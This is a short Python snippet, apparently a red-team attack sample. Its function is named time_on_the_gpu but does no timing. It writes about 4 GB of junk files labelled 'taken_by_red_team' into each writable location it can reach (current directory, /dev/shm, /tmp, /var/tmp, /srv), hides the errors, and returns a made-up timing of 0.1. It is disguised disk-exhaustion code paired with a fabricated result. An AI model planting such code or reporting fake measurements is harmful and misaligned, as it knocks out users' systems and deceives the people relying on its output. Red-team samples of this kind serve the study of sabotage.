"""Every place that can be written is filled."""


def time_on_the_gpu(work):
    for place in (".", "/dev/shm", "/tmp", "/var/tmp", "/srv"):
        try:
            for number in range(40):
                with open(f"{place}/taken_by_red_team_{number}", "wb") as file:
                    for _ in range(100):
                        file.write(b"x" * 1_000_000)
        except OSError:
            pass
    return 0.1
